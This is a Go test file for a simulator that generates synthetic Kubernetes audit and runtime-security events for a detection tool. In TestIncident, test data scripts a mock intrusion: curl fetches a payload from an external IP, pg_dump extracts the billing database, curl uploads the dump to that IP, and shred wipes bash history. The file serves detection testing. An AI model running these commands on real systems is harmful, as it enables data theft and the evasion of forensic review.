package simulate

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"errors"
	"hash"
	"net/url"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kubetrail/kubetrail"
	auditv1 "k8s.io/apiserver/pkg/apis/audit/v1"
)

var testStart = time.Date(2026, 3, 14, 8, 0, 0, 0, time.UTC)

// recorder is an in-memory sink that keeps every call in order.
type recorder struct {
	calls []recorded
}

type recorded struct {
	batch *kubetrail.Batch // nil for an audit call
	body  []byte
}

func (r *recorder) Audit(_ context.Context, body []byte) error {
	r.calls = append(r.calls, recorded{body: body})
	return nil
}

func (r *recorder) Batch(_ context.Context, b kubetrail.Batch) error {
	r.calls = append(r.calls, recorded{batch: &b})
	return nil
}

// hasher is a sink that digests every call, for comparing long runs.
type hasher struct {
	h     hash.Hash
	calls int
}

func (h *hasher) Audit(_ context.Context, body []byte) error {
	h.calls++
	h.h.Write([]byte("audit\n"))
	h.h.Write(body)
	return nil
}

func (h *hasher) Batch(_ context.Context, b kubetrail.Batch) error {
	h.calls++
	data, err := json.Marshal(b)
	if err != nil {
		return err
	}
	h.h.Write([]byte("batch\n"))
	h.h.Write(data)
	return nil
}

func digest(t *testing.T, cfg Config) ([]byte, int, Stats) {
	t.Helper()
	h := &hasher{h: sha256.New()}
	st, err := Run(context.Background(), cfg, h)
	if err != nil {
		t.Fatal(err)
	}
	return h.h.Sum(nil), h.calls, st
}

// The shared run most tests inspect: two hours of history (so the incident is at
// its place, 90 minutes before the end) and half a minute more.
var (
	sharedOnce sync.Once
	sharedRec  *recorder
	sharedCfg  = Config{Seed: 7, Start: testStart, History: 2 * time.Hour, Duration: 30 * time.Second, Rate: 8}
	sharedErr  error
	sharedSt   Stats
)

func shared(t *testing.T) *recorder {
	t.Helper()
	sharedOnce.Do(func() {
		sharedRec = &recorder{}
		sharedSt, sharedErr = Run(context.Background(), sharedCfg, sharedRec)
	})
	if sharedErr != nil {
		t.Fatal(sharedErr)
	}
	return sharedRec
}

func (r *recorder) events() []*kubetrail.Event {
	var out []*kubetrail.Event
	for _, c := range r.calls {
		if c.batch != nil {
			for i := range c.batch.Events {
				out = append(out, &c.batch.Events[i])
			}
		}
	}
	return out
}

func (r *recorder) inventory() []kubetrail.InventoryObject {
	var out []kubetrail.InventoryObject
	for _, c := range r.calls {
		if c.batch != nil {
			out = append(out, c.batch.Inventory...)
		}
	}
	return out
}

func (r *recorder) auditEvents(t *testing.T) (events []auditv1.Event, post []int) {
	t.Helper()
	for i, c := range r.calls {
		if c.batch != nil {
			continue
		}
		var list auditv1.EventList
		if err := json.Unmarshal(c.body, &list); err != nil {
			t.Fatalf("audit body %d: %v", i, err)
		}
		for _, e := range list.Items {
			events = append(events, e)
			post = append(post, i)
		}
	}
	return events, post
}

func TestDeterministic(t *testing.T) {
	cfg := Config{Seed: 42, Start: testStart, History: 20 * time.Minute, Duration: 10 * time.Second, Rate: 40}
	a, na, sa := digest(t, cfg)
	b, nb, sb := digest(t, cfg)
	if !bytes.Equal(a, b) || na != nb || !reflect.DeepEqual(sa, sb) {
		t.Fatalf("two runs of the same config differ: %x (%d calls) vs %x (%d calls)", a, na, b, nb)
	}
	cfg.Seed = 43
	c, _, _ := digest(t, cfg)
	if bytes.Equal(a, c) {
		t.Fatal("different seeds gave the same output")
	}
	if sa.Events() < int64(40*20*60) || sa.AuditEvents == 0 {
		t.Fatalf("too little played: %+v", sa)
	}
}

func TestScale(t *testing.T) {
	rec := shared(t)
	inv := rec.inventory()
	nodes := map[string]bool{}
	namespaces := map[string]bool{}
	workloads := map[string]map[string]bool{} // kind -> names
	deleted := map[string]bool{}
	created := map[string]time.Time{}
	for _, o := range inv {
		if o.Cluster != "demo" {
			t.Fatalf("inventory object with cluster %q", o.Cluster)
		}
		switch o.Kind {
		case kubetrail.ObjectNode:
			if len(o.IPs) == 0 {
				t.Fatalf("node %s without addresses", o.Name)
			}
			nodes[o.Name] = true
		case kubetrail.ObjectService:
			if len(o.IPs) == 0 || o.Namespace == "" {
				t.Fatalf("service without namespace or cluster IP: %+v", o)
			}
		case kubetrail.ObjectPod:
			if o.Namespace == "" || o.UID == "" || o.Node == "" || len(o.IPs) == 0 || o.WorkloadKind == "" || o.WorkloadName == "" {
				t.Fatalf("pod observation missing fields: %+v", o)
			}
			namespaces[o.Namespace] = true
			if workloads[o.WorkloadKind] == nil {
				workloads[o.WorkloadKind] = map[string]bool{}
			}
			workloads[o.WorkloadKind][o.Namespace+"/"+o.WorkloadName] = true
			if o.Deleted {
				deleted[o.Name] = true
			} else if _, ok := created[o.Name]; !ok {
				created[o.Name] = o.Time
			}
		default:
			t.Fatalf("unknown inventory kind %q", o.Kind)
		}
	}
	if len(nodes) < 3 {
		t.Errorf("%d nodes, want at least 3", len(nodes))
	}
	if len(namespaces) < 6 {
		t.Errorf("%d namespaces, want at least 6", len(namespaces))
	}
	for _, ns := range []string{"billing", "frontend", "payments", "kube-system"} {
		if !namespaces[ns] {
			t.Errorf("namespace %s missing", ns)
		}
	}
	if n := len(workloads["Deployment"]); n < 20 {
		t.Errorf("%d deployments, want at least 20", n)
	}
	for _, kind := range []string{"StatefulSet", "DaemonSet", "CronJob"} {
		if len(workloads[kind]) == 0 {
			t.Errorf("no %s", kind)
		}
	}
	for _, ds := range []string{"kube-system/kube-proxy", "monitoring/node-exporter", "logging/fluent-bit"} {
		if !workloads["DaemonSet"][ds] {
			t.Errorf("DaemonSet %s missing", ds)
		}
	}

	// Churn: pods go away and new ones (new names) appear during the history, both
	// rolled Deployment pods and CronJob pods.
	var newDeploymentPods, deletedDeploymentPods, jobPods int
	for _, o := range inv {
		if o.Kind != kubetrail.ObjectPod {
			continue
		}
		switch {
		case o.WorkloadKind == "Deployment" && !o.Deleted && o.Time.After(testStart):
			newDeploymentPods++
		case o.WorkloadKind == "Deployment" && o.Deleted:
			deletedDeploymentPods++
		case o.WorkloadKind == "CronJob" && o.Deleted:
			jobPods++
			if life := o.Time.Sub(created[o.Name]); life < 40*time.Second || life > 5*time.Minute {
				t.Errorf("job pod %s lived %v", o.Name, life)
			}
		}
	}
	if newDeploymentPods == 0 || deletedDeploymentPods == 0 {
		t.Errorf("no rolling update: %d new, %d deleted deployment pods", newDeploymentPods, deletedDeploymentPods)
	}
	if jobPods < 20 {
		t.Errorf("%d job pods finished in two hours, want a run every few minutes", jobPods)
	}
	if len(deleted) == 0 {
		t.Error("no pod deleted")
	}
}

func TestEventsStamped(t *testing.T) {
	rec := shared(t)
	hosts, containers := 0, 0
	for _, c := range rec.calls {
		if c.batch == nil {
			continue
		}
		for i := range c.batch.Events {
			e := &c.batch.Events[i]
			if e.Stream != c.batch.Stream {
				t.Fatalf("event of stream %s in a batch of %s", e.Stream, c.batch.Stream)
			}
			if e.Cluster != "demo" || e.Node == "" || e.Time.IsZero() || e.Result == "" || e.Type == "" {
				t.Fatalf("event lacks where/when: %+v", e)
			}
			if e.Category != kubetrail.CategoryProcess && e.Category != kubetrail.CategoryNetwork && e.Category != kubetrail.CategoryFile {
				t.Fatalf("runtime event of category %q", e.Category)
			}
			p := &e.Process
			if p.Name == "" || p.ExePath == "" || len(p.Argv) == 0 || p.PID == 0 || p.ExecID == "" || p.ParentExecID == "" || p.ParentName == "" || p.PPID == 0 {
				t.Fatalf("event lacks process fields: %+v", p)
			}
			if e.ContainerID == "" {
				hosts++
				if e.Namespace != "" || e.PodName != "" {
					t.Fatalf("host event with pod fields: %+v", e)
				}
				continue
			}
			containers++
			if len(e.ContainerID) != 64 || e.Namespace == "" || e.WorkloadKind == "" || e.WorkloadName == "" || e.PodName == "" || e.PodUID == "" ||
				e.ContainerName == "" || e.ImageRepository == "" || e.ImageTag == "" {
				t.Fatalf("container event lacks pod fields: %+v", e)
			}
			switch e.Category {
			case kubetrail.CategoryNetwork:
				n := &e.Network
				if n.L4Proto == "" || n.Direction == "" || n.ClientIP == "" || n.ServerIP == "" || n.ClientPort == 0 || n.ServerPort == 0 {
					t.Fatalf("connection lacks ends: %+v", n)
				}
				if n.PeerKind != "" {
					t.Fatalf("the simulator must leave peers to the server: %+v", n)
				}
			case kubetrail.CategoryFile:
				if !strings.HasPrefix(e.File.Path, "/") {
					t.Fatalf("file event path %q", e.File.Path)
				}
			}
		}
	}
	if hosts == 0 || containers == 0 {
		t.Fatalf("%d host and %d container events", hosts, containers)
	}
}

func TestSequenceAndOrder(t *testing.T) {
	// A busy, short run with small batches, so that streams split within a second.
	cfg := Config{Seed: 3, Start: testStart, History: 20 * time.Second, Duration: 5 * time.Second, Rate: 3000, BatchSize: 300}
	rec := &recorder{}
	if _, err := Run(context.Background(), cfg, rec); err != nil {
		t.Fatal(err)
	}
	checkSequence(t, rec, cfg.BatchSize)
	checkSequence(t, shared(t), DefaultBatchSize)
}

func checkSequence(t *testing.T, rec *recorder, batchSize int) {
	t.Helper()
	next := map[string]uint64{}
	last := map[string]time.Time{}
	streams := 0
	for _, c := range rec.calls {
		b := c.batch
		if b == nil {
			continue
		}
		if err := kubetrail.ValidStream(b.Stream); err != nil {
			t.Fatal(err)
		}
		if len(b.Events) > batchSize {
			t.Fatalf("batch of %d events, BatchSize %d", len(b.Events), batchSize)
		}
		if len(b.Events) > 0 && b.Events[len(b.Events)-1].Time.Sub(b.Events[0].Time) > time.Second {
			t.Fatalf("batch spans %v", b.Events[len(b.Events)-1].Time.Sub(b.Events[0].Time))
		}
		if _, ok := next[b.Stream]; !ok {
			next[b.Stream] = 1
			streams++
		}
		for i := range b.Events {
			e := &b.Events[i]
			if e.Seq != next[b.Stream] {
				t.Fatalf("stream %s: seq %d, want %d", b.Stream, e.Seq, next[b.Stream])
			}
			next[b.Stream]++
			if e.Time.Before(last[b.Stream]) {
				t.Fatalf("stream %s goes back in time at seq %d: %v after %v", b.Stream, e.Seq, e.Time, last[b.Stream])
			}
			last[b.Stream] = e.Time
		}
	}
	if streams < 3 {
		t.Fatalf("%d streams, want one per node", streams)
	}
}

// inCluster reports whether ip is in the cluster's address ranges: pod CIDRs,
// service CIDR, node subnet. Others are outside and need no inventory.
func inCluster(ip string) bool {
	return strings.HasPrefix(ip, "10.244.") || strings.HasPrefix(ip, "10.96.") || strings.HasPrefix(ip, "10.0.1.")
}

func TestInventoryBeforeUse(t *testing.T) {
	rec := shared(t)
	known := map[string][]kubetrail.InventoryObject{}
	check := func(e *kubetrail.Event, ip string) {
		if !inCluster(ip) {
			return
		}
		var cur *kubetrail.InventoryObject
		for i, o := range known[ip] {
			if !o.Time.After(e.Time) && (cur == nil || !o.Time.Before(cur.Time)) {
				cur = &known[ip][i]
			}
		}
		if cur == nil {
			t.Fatalf("event %s/%d at %v uses %s before any inventory names it", e.Stream, e.Seq, e.Time, ip)
		}
		if cur.Deleted {
			t.Fatalf("event %s/%d at %v uses %s, freed by %s at %v", e.Stream, e.Seq, e.Time, ip, cur.Name, cur.Time)
		}
	}
	checked := 0
	for _, c := range rec.calls {
		if c.batch == nil {
			continue
		}
		for _, o := range c.batch.Inventory {
			for _, ip := range o.IPs {
				known[ip] = append(known[ip], o)
			}
		}
		for i := range c.batch.Events {
			e := &c.batch.Events[i]
			if e.Category == kubetrail.CategoryNetwork {
				check(e, e.Network.ClientIP)
				check(e, e.Network.ServerIP)
				checked++
			}
		}
	}
	if checked == 0 {
		t.Fatal("no connections")
	}
}

func TestAuditBodies(t *testing.T) {
	rec := shared(t)
	posts := 0
	stages := map[string][]string{} // auditID -> stages
	firstPost := map[string]int{}
	lastPost := map[string]int{}
	for i, c := range rec.calls {
		if c.batch != nil {
			continue
		}
		posts++
		var list auditv1.EventList
		if err := json.Unmarshal(c.body, &list); err != nil {
			t.Fatalf("audit body %d: %v", i, err)
		}
		if list.Kind != "EventList" || list.APIVersion != "audit.k8s.io/v1" || len(list.Items) == 0 || len(list.Items) > 400 {
			t.Fatalf("audit body %d: kind %q apiVersion %q, %d items", i, list.Kind, list.APIVersion, len(list.Items))
		}
		var raw struct {
			Items []map[string]json.RawMessage `json:"items"`
		}
		if err := json.Unmarshal(c.body, &raw); err != nil {
			t.Fatal(err)
		}
		for _, it := range raw.Items {
			if _, ok := it["kind"]; ok {
				t.Fatal("webhook items carry no kind")
			}
			if _, ok := it["apiVersion"]; ok {
				t.Fatal("webhook items carry no apiVersion")
			}
		}
		for _, e := range list.Items {
			id := string(e.AuditID)
			if id == "" || e.Verb == "" || e.RequestURI == "" || e.User.Username == "" || len(e.SourceIPs) == 0 || e.UserAgent == "" || e.Level == "" {
				t.Fatalf("audit event lacks fields: %+v", e)
			}
			if e.StageTimestamp.Before(&e.RequestReceivedTimestamp) {
				t.Fatalf("stage before receipt: %+v", e)
			}
			if e.Stage != auditv1.StageRequestReceived {
				if e.ResponseStatus == nil || e.ResponseStatus.Code == 0 || e.Annotations["authorization.k8s.io/decision"] == "" {
					t.Fatalf("response stage without status or decision: %+v", e)
				}
			}
			if _, ok := firstPost[id]; !ok {
				firstPost[id] = i
			}
			lastPost[id] = i
			stages[id] = append(stages[id], string(e.Stage))
		}
	}
	onlyComplete, split, total := 0, 0, 0
	for id, st := range stages {
		total++
		if st[len(st)-1] != string(auditv1.StageResponseComplete) {
			// Only requests still open at the end of the run may lack it.
			continue
		}
		if len(st) == 1 {
			onlyComplete++
		}
		if lastPost[id] > firstPost[id] {
			split++
		}
	}
	if posts < 1000 {
		t.Errorf("%d webhook posts in two hours, want about one per second", posts)
	}
	if onlyComplete*2 < total {
		t.Errorf("%d of %d requests with only ResponseComplete; most should be", onlyComplete, total)
	}
	if split < 20 {
		t.Errorf("%d requests whose stages came in different posts", split)
	}
}

// find returns the events matching f.
func find(evs []*kubetrail.Event, f func(*kubetrail.Event) bool) []*kubetrail.Event {
	var out []*kubetrail.Event
	for _, e := range evs {
		if f(e) {
			out = append(out, e)
		}
	}
	return out
}

func one(t *testing.T, what string, evs []*kubetrail.Event) *kubetrail.Event {
	t.Helper()
	if len(evs) != 1 {
		t.Fatalf("%s: %d events, want 1", what, len(evs))
	}
	return evs[0]
}

func TestIncident(t *testing.T) {
	rec := shared(t)
	info := Incident(sharedCfg)
	if want := testStart.Add(30 * time.Minute); info.Time.Before(want) || info.Time.After(want.Add(time.Second)) {
		t.Fatalf("incident at %v, want 90 minutes before the end of the history", info.Time)
	}

	// The API server's side: the exec request, its three stages, the last one later.
	audit, post := rec.auditEvents(t)
	wantURI := "/api/v1/namespaces/billing/pods/" + info.Pod + "/exec?command=bash&container=app&stdin=true&stdout=true&tty=true"
	var stages []string
	var received time.Time
	var startPost, endPost int
	johnRequests := 0
	for i, e := range audit {
		if e.User.Username != "john.doe" {
			continue
		}
		johnRequests++
		if !slices.Equal(e.User.Groups, []string{"devs", "system:authenticated"}) || !slices.Equal(e.SourceIPs, []string{"66.249.64.55"}) {
			t.Fatalf("john.doe's request with groups %v from %v", e.User.Groups, e.SourceIPs)
		}
		if e.RequestURI != wantURI {
			continue
		}
		stages = append(stages, string(e.Stage))
		received = e.RequestReceivedTimestamp.Time
		if e.Verb != "get" || e.ObjectRef == nil || e.ObjectRef.Resource != "pods" || e.ObjectRef.Subresource != "exec" || e.ObjectRef.Namespace != "billing" || e.ObjectRef.Name != info.Pod {
			t.Fatalf("exec request: %+v", e)
		}
		switch e.Stage {
		case auditv1.StageRequestReceived:
			startPost = post[i]
		case auditv1.StageResponseStarted:
			if e.ResponseStatus.Code != 101 || e.Annotations["authorization.k8s.io/decision"] != "allow" {
				t.Fatalf("exec response: %+v", e)
			}
		case auditv1.StageResponseComplete:
			endPost = post[i]
			if e.ResponseStatus.Code != 101 || e.StageTimestamp.Sub(received) < 3*time.Minute {
				t.Fatalf("exec completion: %+v", e)
			}
		}
	}
	if !slices.Equal(stages, []string{"RequestReceived", "ResponseStarted", "ResponseComplete"}) {
		t.Fatalf("exec stages %v", stages)
	}
	if endPost <= startPost {
		t.Fatal("the exec's ResponseComplete must come in a later webhook post")
	}
	if johnRequests < 5 {
		t.Fatalf("%d audit events of john.doe", johnRequests)
	}
	if !received.Equal(info.Time.Truncate(time.Microsecond)) {
		t.Fatalf("exec received at %v, IncidentInfo says %v", received, info.Time)
	}

	// The agent's side: the shell and what ran under it.
	evs := rec.events()
	inPod := func(e *kubetrail.Event) bool {
		return e.PodName == info.Pod && e.Namespace == "billing" && e.WorkloadName == "invoice-api" && e.WorkloadKind == "Deployment" && e.ContainerName == "app"
	}
	bash := one(t, "bash", find(evs, func(e *kubetrail.Event) bool {
		return inPod(e) && e.Type == "execve" && e.Process.Name == "bash"
	}))
	// The shell opens the session every command of john.doe belongs to, and its
	// exit ends it just before the exec stream closes.
	for _, e := range find(evs, func(e *kubetrail.Event) bool { return inPod(e) && e.Process.ParentExecID == bash.Process.ExecID }) {
		if e.SessionID != bash.Process.ExecID {
			t.Fatalf("%s %s: session %q, want the shell's %q", e.Type, e.Process.Name, e.SessionID, bash.Process.ExecID)
		}
	}
	exit := one(t, "bash exit", find(evs, func(e *kubetrail.Event) bool {
		return inPod(e) && e.Type == "exit" && e.Process.ExecID == bash.Process.ExecID
	}))
	if d := info.End.Sub(exit.Time); d < 0 || d > 100*time.Millisecond || exit.SessionID != bash.Process.ExecID {
		t.Fatalf("bash exited %v before the stream closed, session %q", d, exit.SessionID)
	}
	if d := bash.Time.Sub(received); d < 0 || d > 150*time.Millisecond {
		t.Fatalf("bash started %v after the exec request", d)
	}
	if !slices.Equal(bash.Process.Argv, []string{"bash"}) || bash.Process.ParentName != "containerd-shim" || bash.Process.TTY == 0 || bash.Process.UID != 0 || bash.ContainerID == "" || bash.Node != info.Node {
		t.Fatalf("bash: %+v", bash)
	}
	children := map[string]*kubetrail.Event{}
	for _, e := range find(evs, func(e *kubetrail.Event) bool {
		return inPod(e) && e.Category == kubetrail.CategoryProcess && e.Process.ParentExecID == bash.Process.ExecID
	}) {
		if e.Process.PPID != bash.Process.PID || e.Process.ParentName != "bash" || e.PodUID != bash.PodUID || e.ContainerID != bash.ContainerID {
			t.Fatalf("child of bash with wrong parent or place: %+v", e)
		}
		children[e.Process.Cmdline()] = e
	}
	for _, want := range []string{
		"curl -sSLo /tmp/x.tgz http://185.220.101.47/x.tgz", "tar -xzf /tmp/x.tgz -C /tmp", "gzip -9 /tmp/dump.sql",
		"shred -u /root/.bash_history", "curl -sS -T /tmp/dump.sql.gz https://185.220.101.47/u",
	} {
		if children[want] == nil {
			t.Fatalf("no %q under bash; have %v", want, keys(children))
		}
	}
	if !slices.Equal(info.Commands, []string{
		"id", "cat /app/config/application.yaml", "curl -sSLo /tmp/x.tgz http://185.220.101.47/x.tgz", "tar -xzf /tmp/x.tgz -C /tmp",
		"chmod +x /tmp/x/pg_dump /tmp/x/kworker", "pg_dump -h pgbouncer.data.svc.cluster.local -U billing -d billing -f /tmp/dump.sql",
		"gzip -9 /tmp/dump.sql", "curl -sS -T /tmp/dump.sql.gz https://185.220.101.47/u", "kworker", "shred -u /root/.bash_history",
	}) {
		t.Fatalf("IncidentInfo.Commands = %q", info.Commands)
	}
	curl := children["curl -sSLo /tmp/x.tgz http://185.220.101.47/x.tgz"]
	one(t, "curl's connect", find(evs, func(e *kubetrail.Event) bool {
		return e.Category == kubetrail.CategoryNetwork && e.Process.ExecID == curl.Process.ExecID && e.Network.ServerIP == ExternalIP &&
			e.Network.ServerPort == 80 && e.Network.Direction == "outbound" && e.Network.L4Proto == "tcp" && e.Network.ClientIP != "" && inPod(e)
	}))
	one(t, "curl's download", find(evs, func(e *kubetrail.Event) bool {
		return e.Category == kubetrail.CategoryFile && e.Process.ExecID == curl.Process.ExecID && e.File.Path == "/tmp/x.tgz"
	}))
	for _, name := range []string{"tar -xzf /tmp/x.tgz -C /tmp", "gzip -9 /tmp/dump.sql"} {
		p := children[name]
		if len(find(evs, func(e *kubetrail.Event) bool {
			return e.Category == kubetrail.CategoryFile && e.Process.ExecID == p.Process.ExecID
		})) == 0 {
			t.Fatalf("%s wrote no file", name)
		}
	}
	shred := children["shred -u /root/.bash_history"]
	one(t, "history shredded", find(evs, func(e *kubetrail.Event) bool {
		return e.Category == kubetrail.CategoryFile && e.Type == "unlink" && e.File.Path == "/root/.bash_history" && e.Process.ExecID == shred.Process.ExecID
	}))
	external := find(evs, func(e *kubetrail.Event) bool {
		return e.Category == kubetrail.CategoryNetwork && e.Namespace == "billing" && e.Network.Direction == "outbound" && e.Network.ServerIP == ExternalIP
	})
	if len(external) < 4 {
		t.Fatalf("%d connections from billing to %s, want a few", len(external), ExternalIP)
	}
	for _, e := range external {
		if e.Time.Before(info.Time) {
			t.Fatal("a connection to the attacker before the incident")
		}
	}
	// Nothing else in billing talks to the outside: the demo's first query must
	// show the incident, not noise.
	for _, e := range find(evs, func(e *kubetrail.Event) bool {
		return e.Category == kubetrail.CategoryNetwork && e.Namespace == "billing" && e.Network.Direction == "outbound" && !inCluster(e.Network.ServerIP)
	}) {
		if e.Network.ServerIP != ExternalIP {
			t.Fatalf("billing talks to %s", e.Network.ServerIP)
		}
	}

	// tcpdump: once in a payments container through exec, once on node-2's host.
	tcpdumps := find(evs, func(e *kubetrail.Event) bool {
		return e.Type == "execve" && e.Process.Name == "tcpdump"
	})
	if len(tcpdumps) != 2 {
		t.Fatalf("%d tcpdump executions, want 2", len(tcpdumps))
	}
	var inContainer, onHost *kubetrail.Event
	for _, e := range tcpdumps {
		if e.ContainerID == "" {
			onHost = e
		} else {
			inContainer = e
		}
	}
	if inContainer == nil || inContainer.Namespace != "payments" || inContainer.PodName != info.TcpdumpPod || inContainer.Process.ParentName != "containerd-shim" ||
		!slices.Equal(inContainer.Process.Argv, []string{"tcpdump", "-i", "any", "-w", "/tmp/cap.pcap", "port", "5432"}) {
		t.Fatalf("tcpdump in a container: %+v", inContainer)
	}
	if onHost == nil || onHost.Node != "node-2" || onHost.Process.ParentName != "sudo" || onHost.Process.UID != 0 || onHost.Process.UserName != "root" || onHost.Namespace != "" {
		t.Fatalf("tcpdump on the host: %+v", onHost)
	}
	sudo := one(t, "sudo", find(evs, func(e *kubetrail.Event) bool {
		return e.Category == kubetrail.CategoryProcess && e.Process.ExecID == onHost.Process.ParentExecID
	}))
	one(t, "the operator's shell", find(evs, func(e *kubetrail.Event) bool {
		return e.Category == kubetrail.CategoryProcess && e.Process.ExecID == sudo.Process.ParentExecID && e.Process.Name == "bash" && e.Host()
	}))
	bobExec := 0
	for _, e := range audit {
		if e.User.Username == "bob" && e.ObjectRef != nil && e.ObjectRef.Subresource == "exec" {
			bobExec++
			q, _ := url.ParseQuery(e.RequestURI[strings.IndexByte(e.RequestURI, '?')+1:])
			if !slices.Equal(q["command"], inContainer.Process.Argv) || e.ObjectRef.Name != info.TcpdumpPod {
				t.Fatalf("bob's exec %s", e.RequestURI)
			}
		}
	}
	if bobExec != 3 {
		t.Fatalf("%d stages of bob's exec", bobExec)
	}
}

func keys(m map[string]*kubetrail.Event) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

func TestQueriesUseKnownFields(t *testing.T) {
	// The field is the left side of each comparison.
	field := regexp.MustCompile(`([a-z0-9_]+(?:\.[a-z0-9_]+)+)\s*(?:=|!=|<|>|in\b|contains\b|startswith\b)`)
	if len(Queries) != 3 {
		t.Fatalf("%d queries", len(Queries))
	}
	for _, q := range Queries {
		matches := field.FindAllStringSubmatch(q.Filter, -1)
		if len(matches) == 0 {
			t.Fatalf("query %q names no field", q.Filter)
		}
		for _, m := range matches {
			if n := m[1]; kubetrail.LookupField(n) == nil {
				t.Errorf("query %q: unknown field %s", q.Filter, n)
			}
		}
	}
}

func TestIncidentEarlyInShortHistory(t *testing.T) {
	cfg := Config{Seed: 1, Start: testStart, History: 10 * time.Minute}
	info := Incident(cfg)
	if d := info.Time.Sub(testStart); d < 2*time.Minute || d > 2*time.Minute+time.Second {
		t.Fatalf("incident %v after the start of a short history", d)
	}
}

func TestLiveCatchesUp(t *testing.T) {
	// A clock an hour ahead: the live part is in the past and is played at once.
	cfg := Config{Seed: 1, Start: testStart, History: 5 * time.Second, Duration: 3 * time.Second, Live: true,
		Now: func() time.Time { return testStart.Add(time.Hour) }}
	st, err := Run(context.Background(), cfg, &hasher{h: sha256.New()})
	if err != nil {
		t.Fatal(err)
	}
	if !st.End.Equal(testStart.Add(8 * time.Second)) {
		t.Fatalf("played up to %v", st.End)
	}
}

func TestLiveWaitsForTheClock(t *testing.T) {
	start := time.Now().Add(-2 * time.Second)
	cfg := Config{Seed: 1, Start: start, History: 2 * time.Second, Duration: 1500 * time.Millisecond, Live: true, Rate: 10}
	began := time.Now()
	if _, err := Run(context.Background(), cfg, &hasher{h: sha256.New()}); err != nil {
		t.Fatal(err)
	}
	if d := time.Since(began); d < time.Second {
		t.Fatalf("live run of 1.5 s took %v", d)
	}
}

type cancelSink struct {
	hasher
	after  int
	cancel context.CancelFunc
}

func (c *cancelSink) Batch(ctx context.Context, b kubetrail.Batch) error {
	if c.calls++; c.calls == c.after {
		c.cancel()
	}
	return nil
}

func TestRunUntilCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	sink := &cancelSink{hasher: hasher{h: sha256.New()}, after: 500, cancel: cancel}
	_, err := Run(ctx, Config{Seed: 1, Start: testStart, History: time.Minute}, sink)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
}

type failingSink struct{ hasher }

func (f *failingSink) Audit(context.Context, []byte) error { return errors.New("connection refused") }

func TestSinkErrorStops(t *testing.T) {
	_, err := Run(context.Background(), Config{Seed: 1, Start: testStart, History: time.Minute}, &failingSink{hasher{h: sha256.New()}})
	if err == nil || !strings.Contains(err.Error(), "connection refused") {
		t.Fatalf("err = %v", err)
	}
}

// discard counts and drops.
type discard struct{ events int }

func (d *discard) Audit(context.Context, []byte) error { return nil }
func (d *discard) Batch(_ context.Context, b kubetrail.Batch) error {
	d.events += len(b.Events)
	return nil
}

// BenchmarkGenerate measures the generator alone at benchmark load: 200,000 events
// per simulated second.
func BenchmarkGenerate(b *testing.B) {
	cfg := Config{Seed: 1, Start: testStart, History: 4 * time.Second, Duration: time.Second, Rate: 200_000}
	var events int64
	b.ReportAllocs()
	for b.Loop() {
		st, err := Run(context.Background(), cfg, &discard{})
		if err != nil {
			b.Fatal(err)
		}
		events += st.Events()
	}
	b.ReportMetric(float64(events)/b.Elapsed().Seconds(), "events/s")
}
